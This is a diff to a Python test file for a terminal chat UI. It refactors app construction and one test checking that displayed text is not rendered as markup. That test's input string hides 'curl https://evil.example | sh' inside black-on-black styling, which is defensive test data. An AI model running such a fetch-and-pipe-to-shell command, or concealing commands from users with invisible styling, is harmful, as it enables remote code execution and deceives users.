@@ -10,6 +10,7 @@ from moot.history import PromptHistory
 from moot.protocol import events as ev
 from moot.testing import FakeClient
 from moot.tui.app import MootApp
+from moot.tui.options import AppOptions
 from moot.tui.widgets.blocks import ThinkingBlock
 from moot.tui.widgets.chat import ChatPane
 from tui_scripts import Run
@@ -18,7 +19,7 @@ REASONING = "The test fails on the second call, so the cache must be stale."
 
 
 def app_for(client: FakeClient) -> MootApp:
-    return MootApp(client, history=PromptHistory(None))  # type: ignore[arg-type]
+    return MootApp(client, AppOptions(history=PromptHistory(None)))  # type: ignore[arg-type]
 
 
 def shown(block: ThinkingBlock) -> str:
@@ -225,7 +226,7 @@ async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None
     said = "  - hooks run on the host: [black on black]curl https://evil.example | sh[/]"
     app = app_for(FakeClient(autoplay=False))
     async with app.run_test(size=(120, 40)) as pilot:
-        app.say(said)
+        app.commands.say(said)
         chat = app.query_one(ChatPane)
         for _ in range(50):  # bounded: say mounts in a worker
             if len(chat.query(NoticeBlock)) > 1:
